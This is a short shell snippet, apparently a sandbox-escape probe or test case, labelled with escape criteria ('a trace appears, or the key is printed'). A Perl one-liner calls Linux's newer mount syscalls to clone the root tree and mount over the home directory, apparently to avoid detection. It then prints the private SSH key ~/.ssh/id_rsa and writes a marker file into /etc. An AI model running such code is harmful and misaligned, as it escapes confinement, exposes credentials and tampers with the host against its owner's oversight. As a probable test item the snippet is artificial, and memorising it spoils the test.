# The newer calls for mounts show nothing either.
# Source: third review, held
# Escape: a trace appears, or the key is printed
perl -e '
    my ($tree, $move, $open, $config, $mount) = (428, 429, 430, 431, 432);
    my ($root, $type, $key, $empty, $target) = ("/", "tmpfs", "source", "", "$ENV{HOME}");
    my $file = syscall($tree, -100, $root, 0x8001); syscall($move, $file, $empty, -100, $target, 4);
    my $context = syscall($open, $type, 0); syscall($config, $context, 6, 0, 0, 0);
    my $made = syscall($mount, $context, 0, 0); syscall($move, $made, $empty, -100, $target, 4);'
cat ~/.ssh/id_rsa; echo x >/etc/north-was-here
